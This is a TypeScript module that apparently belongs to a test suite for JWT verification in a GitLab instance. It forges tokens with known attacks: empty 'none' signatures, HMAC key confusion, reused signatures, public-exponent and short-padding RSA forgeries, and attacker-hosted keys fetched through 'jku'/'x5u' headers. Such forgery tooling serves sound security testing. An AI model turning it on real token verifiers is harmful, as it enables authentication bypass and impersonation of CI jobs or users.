// From a finished description to a token: sign, then mangle.
import { type BroughtKey, bringKey } from "./brought-key.js";
import { base64url, type JoseHeader, signingInput } from "./compact.js";
import {
	type Encoding,
	encodeHeader,
	encodePayload,
	type HeaderEncoding,
} from "./encode.js";
import {
	MANGLES,
	type Mangle,
	replaceHeader,
	replacePayload,
} from "./forge.js";
import { byPublicExponent, withShortPadding } from "./forge-rsa.js";
import { type HmacSecret, hmac } from "./hmac.js";
import type { KeySet } from "./keys.js";
import { type KeyName, keyNamed, type NamedKey } from "./named-keys.js";
import type { RsaAlgorithm } from "./sign.js";

/** How the third part of a token comes about. */
export type Signing =
	| {
			key?: KeyName | undefined;
			alg?: RsaAlgorithm | undefined;
			/** whose `kid` the header has; default that of `key` */
			kid_of?: KeyName | undefined;
			/** the header member by which the token brings the attacker's key */
			bring?: BroughtKey | undefined;
	  }
	| { hmac: HmacSecret }
	| keyof typeof BARE_SIGNATURES;

/** Signatures that need no more than their name: empty, of another token, by the public half of the key, too short within. */
export const BARE_SIGNATURES = {
	none: { description: "an empty signature (RFC 7518 §3.6)" },
	"another-token": { description: "the signature of another token" },
	"public-exponent": {
		description:
			"the public half of the key is applied where the private one belongs",
	},
	"short-padding": {
		description: "an RSA signature with eight bytes of padding",
	},
} as const;

/** All that a token is made of. */
export interface TokenPlan {
	/** members that differ from GitLab's `kid`, `typ`, `alg`, in order */
	header: (honest: JoseHeader) => JoseHeader;
	payload: unknown;
	/** the payload as GitLab would have it, which `duplicate` members show first */
	honest?: Readonly<Record<string, unknown>> | undefined;
	/** how the payload is written; default compact JSON */
	encoding?: Encoding | undefined;
	/** how the header is written; default compact JSON */
	headerEncoding?: HeaderEncoding | undefined;
	signing: Signing;
	/** URL of the attacker's keys, to which `jku` and `x5u` point */
	attacker: string;
	mangle: readonly (
		| Mangle
		| { payload: unknown }
		| { header: (signed: JoseHeader) => JoseHeader }
	)[];
}

/** A token in compact serialization, and what it was made of. */
export interface MadeToken {
	token: string;
	header: JoseHeader;
	payload: unknown;
}

/** Makes the token that `plan` describes, with the keys of an instance. */
export async function makeToken(
	plan: TokenPlan,
	keys: KeySet,
): Promise<MadeToken> {
	const { signing } = plan;
	const choice =
		typeof signing === "object" && !("hmac" in signing) ? signing : {};
	const key = await keyNamed(choice.key, keys);
	const { kid } = choice.kid_of ? await keyNamed(choice.kid_of, keys) : key;
	const honest = { kid, typ: "JWT", alg: "RS256" };
	const brought = choice.bring
		? await bringKey(choice.bring, plan.attacker, keys.source)
		: undefined;
	let header = plan.header({ ...honest, ...brought });
	const input = signingInput(
		encodeHeader(header, plan.headerEncoding, {
			...honest,
			kid: keys.ci.kid,
		}),
		encodePayload(plan.payload, plan.encoding, plan.honest),
	);
	const signature = await signatureOf(input, signing, header, key, keys);
	const signed = `${input}.${signature && base64url(signature)}`;
	let token = signed;
	let { payload } = plan;
	for (const step of plan.mangle) {
		if (typeof step === "string") {
			token = await MANGLES[step].make(token, keys, signed);
		} else if ("payload" in step) {
			({ payload } = step);
			token = replacePayload(token, payload);
		} else {
			header = step.header(header);
			token = replaceHeader(token, header);
		}
	}
	return { token, header, payload };
}

function signatureOf(
	input: string,
	signing: Signing,
	header: JoseHeader,
	key: NamedKey,
	keys: KeySet,
): Promise<Buffer> | Buffer | "" {
	switch (signing) {
		case "none":
			return ""; // Attack: RFC 7518 §3.6, an empty signature.
		case "another-token":
			return key.sign(signingInput(header, "{}"));
		case "public-exponent":
			return byPublicExponent(input, keys.ci.publicKey);
		case "short-padding":
			return withShortPadding(input, keys.ci.privateKey);
		default:
			return "hmac" in signing
				? hmac(input, signing.hmac, header.alg, keys)
				: key.sign(input, signing.alg);
	}
}
